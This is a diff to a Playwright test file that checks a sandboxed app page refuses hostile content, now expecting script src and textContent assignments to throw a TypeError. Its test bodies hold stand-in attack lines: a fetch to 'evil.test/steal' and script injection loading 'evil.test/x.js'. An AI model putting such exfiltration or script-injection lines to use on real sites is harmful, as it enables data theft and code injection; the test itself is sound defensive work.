@@ -65,13 +65,25 @@ test('hostile contents move no window, open none and reach no other host', async
       frame.remove();
     }
     await fetch('https://evil.test/steal').catch(() => undefined);
-    const script = document.createElement('script');
-    script.src = 'https://evil.test/x.js';
-    document.body.append(script);
-    const inline = document.createElement('script');
-    inline.textContent = 'window.wasInjected = true';
-    document.body.append(inline);
   });
+  // A text is no address of a script and no script; appended all the same, it does nothing.
+  const refused = await page.evaluate(() => {
+    const fill = (name: 'src' | 'textContent', text: string): boolean => {
+      const script = document.createElement('script');
+      document.body.append(script);
+      try {
+        script[name] = text;
+        return false;
+      } catch (error) {
+        return error instanceof TypeError;
+      }
+    };
+    return [
+      fill('src', 'https://evil.test/x.js'),
+      fill('textContent', 'window.wasInjected = true'),
+    ];
+  });
+  expect(refused).toEqual([true, true]);
   await expect.poll(() => page.context().pages().length).toBe(1);
   expect(page.url()).toBe(before);
   await expect(page.getByRole('heading', { name: 'Welcome back' })).toBeVisible();
@@ -136,7 +148,6 @@ test('calls with values of any kind, or from a frame inside, end in a typed refu
   // Straight at the channels, past the preload, from a frame that got into the page.
   const fromFrame = await page.evaluate(async () => {
     const frame = document.createElement('iframe');
-    frame.srcdoc = '<p>preview</p>';
     const loaded = new Promise((done) => frame.addEventListener('load', done));
     document.body.append(frame);
     await loaded;
